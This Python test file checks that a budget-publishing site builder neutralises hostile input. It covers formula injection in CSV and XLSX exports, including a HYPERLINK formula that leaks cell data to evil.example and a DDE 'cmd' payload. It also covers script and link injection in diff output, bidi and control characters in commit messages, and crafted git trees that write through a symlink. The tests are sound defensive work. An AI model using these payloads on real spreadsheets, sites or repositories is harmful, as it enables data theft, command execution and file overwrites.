"""Hostile content in what reaches readers besides pages: spreadsheets, `build.py diff`, git history."""

from __future__ import annotations

import csv
import io
import json
import re
from decimal import Decimal

import openpyxl
import pytest
from conftest import PROJECT
from markdown_it import MarkdownIt
from test_diff import P1, repo, targets_only  # noqa: F401  (repo is a fixture)

from builder.publish import data as export
from builder.publish.spreadsheet import spreadsheet_text

# Text that a spreadsheet would take for a formula, each in a text field of the scratch project.
FORMULAS = {
    "project_name": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "purpose": "+1+1",
    "target": "-2+3",
    "basis": "@SUM(1+1)",
    "description": "＝1+1",
    "milestone": "-cmd|' /C calc'!A0",
}


def formula_project() -> str:
    text = PROJECT
    for key, old in (("project_name", "name: 测试项目"), ("purpose", "purpose: 测试用途。"),
                     ("milestone", "milestone: 6月底"), ("target", "target: ≥4次")):
        field = old.split(":")[0]
        text = text.replace(old, f"{field}: '{FORMULAS[key].replace(chr(39), chr(39) * 2)}'", 1)
    return text.replace("    name: 活动次数\n", "    name: 活动次数\n    description: '＝1+1'\n    basis: '@SUM(1+1)'\n"
                        )


@pytest.mark.parametrize("text, safe", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("\n=1", "'\n=1"), ("＝1+1", "'＝1+1"), ("＋1", "'＋1"), ("－1", "'－1"), ("＠x", "'＠x"),
    ("测试", "测试"), ("a=1", "a=1"), ("", ""), ("'=1", "'=1"),
])
def test_spreadsheet_text_starts_no_formula(text, safe):
    assert spreadsheet_text(text) == safe


def test_csv_and_xlsx_cells_never_start_a_formula_and_numbers_stay_numbers(scratch, cli):
    scratch.project().write_text(formula_project(), encoding="utf-8")
    run = cli("build", "--no-pdf", cwd=scratch.root)
    assert run.code == 0, run.err
    data = scratch.root / "output" / "data" / "all"
    tables = {name: list(csv.DictReader(io.StringIO((data / f"{name}.csv").read_text(encoding="utf-8-sig"))))
              for name in ("projects", "spending_plan", "indicators")}
    project, = tables["projects"]
    assert project["project_name"] == "'" + FORMULAS["project_name"]
    assert project["purpose"] == "'+1+1"
    assert project["budget_total"] == "100000.00"
    assert tables["spending_plan"][0]["milestone"] == "'" + FORMULAS["milestone"]
    assert tables["spending_plan"][0]["cumulative_percent"] == "50"
    first, cost = tables["indicators"][0], tables["indicators"][1]
    assert (first["target"], first["description"], first["basis"]) == ("'-2+3", "'＝1+1", "'@SUM(1+1)")
    assert (cost["target"], cost["value"]) == ("≤10万元", "10")
    every_cell = [v for rows in tables.values() for row in rows for v in row.values()]
    assert not [v for v in every_cell if v and v[0] in "=+@＝＋－＠\t\r\n" or (v[:1] == "-" and not _number(v))]

    book = openpyxl.load_workbook(data / "data.xlsx")
    projects, plan, indicators = book["项目"], book["资金支出计划"], book["绩效指标"]
    header = [c.value for c in projects[1]]
    row = dict(zip(header, [c for c in projects[2]], strict=True))
    assert row["项目名称"].value == "'" + FORMULAS["project_name"] and row["项目名称"].data_type == "s"
    assert row["预算数"].value == 100000 and row["预算数"].data_type == "n"
    assert plan.cell(2, 4).value == "'" + FORMULAS["milestone"] and plan.cell(2, 5).value == 50
    header = [c.value for c in indicators[1]]
    cost = dict(zip(header, [c.value for c in indicators[3]], strict=True))
    assert cost["指标值"] == "≤10万元" and cost["数值"] == 10
    for sheet in book.worksheets:
        for cells in sheet.iter_rows(min_row=2):
            for cell in cells:
                assert cell.data_type != "f", cell.coordinate
                if isinstance(cell.value, str):
                    assert cell.value[:1] not in "=+-@＝＋－＠\t\r\n", (sheet.title, cell.coordinate, cell.value)


def test_a_negative_amount_is_a_number_not_text():
    """Content has no negative amounts today; if one comes, it must not be quoted as a formula would."""
    row = {"budget_total": Decimal("-100.00"), "project_name": "-100.00"}
    encoded = export.encode({"projects": [row], "spending_plan": [], "goals": [], "indicators": []})
    cells = next(csv.reader(io.StringIO(encoded.csv["projects"])))
    columns = [c.key for c in export.TABLES["projects"][1]]
    assert cells[columns.index("budget_total")] == "-100.00"
    assert cells[columns.index("project_name")] == "'-100.00"  # text that looks like a number stays text
    assert '<c s="2"><v>-100.00</v></c>' in encoded.xlsx["projects"]


def _number(text: str) -> bool:
    try:
        Decimal(text)
    except ArithmeticError:
        return False
    return True


# A value that tries to pass for more entries, a table row, a heading, a link and markup.
FORGED = "正常用途\n- 预算 fake entry\n| x | y |\n# 标题\n<script>alert(1)</script>"


def test_a_change_is_one_entry_in_every_diff_format_whatever_its_values(repo, cli):  # noqa: F811
    targets_only(repo)
    repo.edit(P1, "purpose: 积极开展", "purpose: |-\n  " + FORGED.replace("\n", "\n  ") + "\n  积极开展")
    repo.edit(P1, "target: ≥70百分比", "target: '| x | y |'")
    repo.edit(P1, "basis: 2022年招商引资工作计划", "basis: '[点击](javascript:alert(1)) **粗** `码` <img src=x onerror=alert(1)> &lt;'")
    repo.commit("恶意修改")
    changes = json.loads(cli("diff", "approved", "HEAD", "--format", "json", cwd=repo.root).out)
    assert sorted(c["kind"] for c in changes) == ["basis-changed", "purpose-changed", "target-changed"]
    assert any(FORGED in c["after"] for c in changes)  # JSON keeps values exactly

    text = cli("diff", "approved", "HEAD", cwd=repo.root).out
    assert len(text.splitlines()) == 3 and all(line.startswith("[2022 304001 ") for line in text.splitlines())

    markdown = cli("diff", "approved", "HEAD", "--format", "markdown", cwd=repo.root).out
    lines = markdown.splitlines()
    assert lines[:2] == ["# approved → HEAD", ""] and len(lines) == 5 and all(x.startswith("- [2022") for x in lines[2:])
    page = MarkdownIt("commonmark").enable("table").render(markdown)
    assert page.count("<li>") == 3 and page.count("<h1>") == 1
    for made in ("<script", "<img", "<a ", "<table", "<strong", "<code", "<ul>\n<li>预算"):
        assert made not in page, (made, page)
    assert "| x | y |" in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "&amp;lt;" in page

    html = cli("diff", "approved", "HEAD", "--format", "html", cwd=repo.root).out
    assert html.count("<li>") == 3 and "<script" not in html and "<img" not in html


HOSTILE_SUBJECTS = [
    # The old log format split records at \x1e and fields at \x1f: this one forged a revision.
    "调整指标\x1e" + "0" * 40 + "\x1f2000-01-01\x1f伪造的修订",
    "预算\u202e整调\u2066",  # bidi overrides: the page would show it reversed
    "零宽\u200b字符\x1b[31m红色\x07",
]


def test_hostile_commit_subjects_and_authors_build_and_show_neutralised(repo, cli, tmp_path):  # noqa: F811
    targets_only(repo)
    for n, subject in enumerate(HOSTILE_SUBJECTS):
        repo.edit(P1, f"target: ≥{70 + n}百分比", f"target: ≥{71 + n}百分比")
        repo.git("add", "-A")
        # The subject is never shown; the same words as the publisher's 修订说明 are.
        repo.git("-c", "user.name=作者\u202e\x1f\x1e", "commit", "-q", "--author", "作者\u202e\x1f <a@b.invalid>",
                 "-m", subject, "-m", f"修订说明：{subject}")
    run = cli("build", "--no-pdf", "--output", str(tmp_path / "out"), cwd=repo.root)
    assert run.code == 0, run.err
    page = (tmp_path / "out/2022/304001/projects/13022922P00JXC411757B.html").read_text(encoding="utf-8")
    history = page[page.index('id="history"'):]
    notes = re.findall(r'<p class="revision-note"><span class="label">修订说明：</span>([^<]*)</p>', history)
    assert notes == ["零宽\ufffd字符\ufffd[31m红色\ufffd", "预算\ufffd整调\ufffd", "调整指标\ufffd" + "0" * 40
                     + "\ufffd2000-01-01\ufffd伪造的修订"]
    assert len(re.findall('<p class="revision-head">', history)) == 4 and 'datetime="2000-01-01"' not in history
    for bad in ("\u202e", "\u2066", "\u200b", "\x1b", "\x07", "\x1e", "\x1f", "作者"):
        assert bad not in page


def test_a_commit_cannot_hide_files_from_diff_or_build_rev_with_gitattributes(repo, cli):  # noqa: F811
    """Found by review: `git archive` obeyed the commit's own `.gitattributes`, so `export-ignore`
    hid a whole new department from `diff` (\"no change\") while a checkout published it, and
    `export-subst` could change a file's text."""
    import shutil

    shadow = repo.root / "content/2022/999999"
    shutil.copytree(repo.root / "content/2022/304001", shadow)
    for path in [*shadow.rglob("*.yaml")]:
        path.write_text(path.read_text(encoding="utf-8").replace("304001", "999999").replace("13022", "99922")
                        .replace("玉田县商务和投资促进局", "影子单位"), encoding="utf-8")
        path.rename(path.with_name(path.name.replace("13022", "99922")))
    (shadow / ".gitattributes").write_text("* export-ignore\n", encoding="utf-8")
    (repo.root / "content/.gitattributes").write_text("*.yaml export-subst\n", encoding="utf-8")
    repo.edit(P1, "purpose: 积极开展", "purpose: $Format:%H$积极开展")
    repo.commit("隐藏的单位")
    run = cli("diff", "approved", "HEAD", cwd=repo.root)
    text = run.out
    assert "影子单位" in text and "999999" in text, run.err
    assert "$Format:%H$积极开展" in text  # the committed text, not git archive's substitution


def test_a_malformed_tree_cannot_make_diff_or_build_rev_write_through_a_link(repo, cli, tmp_path):  # noqa: F811
    """Found by review: a tree (one git fsck refuses, but a fetch does not check) holding a link `zz`
    and a folder `zz/` made the export write `zz/pwned.yaml` wherever the link pointed."""
    import subprocess

    victim = tmp_path / "victim"
    victim.mkdir()

    def git(*args: str, data: bytes | None = None) -> str:
        return subprocess.run(["git", *args], cwd=repo.root, input=data, capture_output=True, check=True).stdout

    blob = git("hash-object", "-w", "--stdin", data=b"owned by a commit\n").strip().decode()
    link = git("hash-object", "-w", "--stdin", data=str(victim).encode()).strip().decode()
    sub = git("mktree", data=f"100644 blob {blob}\tpwned.yaml\n".encode()).strip().decode()
    content = git("cat-file", "tree", "HEAD:content")
    content += b"120000 zz\0" + bytes.fromhex(link) + b"40000 zz\0" + bytes.fromhex(sub)
    content_tree = git("hash-object", "-t", "tree", "-w", "--literally", "--stdin", data=content).strip().decode()
    top = git("mktree", data=f"040000 tree {content_tree}\tcontent\n".encode()).strip().decode()
    commit = git("commit-tree", top, "-p", "HEAD", "-m", "hostile", data=b"").strip().decode()
    git("update-ref", "refs/heads/hostile", commit)
    for args in (("diff", "approved", "hostile"),
                 ("build", "--no-pdf", "--rev", "hostile", "--output", str(tmp_path / "out"))):
        run = cli(*args, cwd=repo.root)
        assert run.code == 1 and "malformed tree" in run.err, run.err
    assert list(victim.iterdir()) == []


def test_a_commit_whose_content_folder_is_a_link_is_refused(repo, cli, tmp_path):  # noqa: F811
    """Found by review: `content` itself committed as a link to an absolute path made diff and
    build --rev read (and publish) a folder outside git; check refuses links only inside content."""
    import shutil

    draft = tmp_path / "draft"
    shutil.copytree(repo.root / "content", draft)
    department = draft / "2022/304001/department.yaml"
    department.write_text(department.read_text(encoding="utf-8").replace("玉田县商务和投资促进局", "未公开草稿局"),
                          encoding="utf-8")
    repo.git("rm", "-r", "-q", "content")
    (repo.root / "content").symlink_to(draft)
    repo.commit("content 换成链接")
    repo.git("tag", "hostile")
    repo.git("checkout", "-q", "approved")  # the reviewer's work tree: real content; the link is in the branch
    for args in (("diff", "approved", "hostile"),
                 ("build", "--no-pdf", "--rev", "hostile", "--output", str(tmp_path / "out"))):
        run = cli(*args, cwd=repo.root)
        assert run.code == 1 and "is a symbolic link at hostile" in run.err, run.err
    assert not (tmp_path / "out").exists()
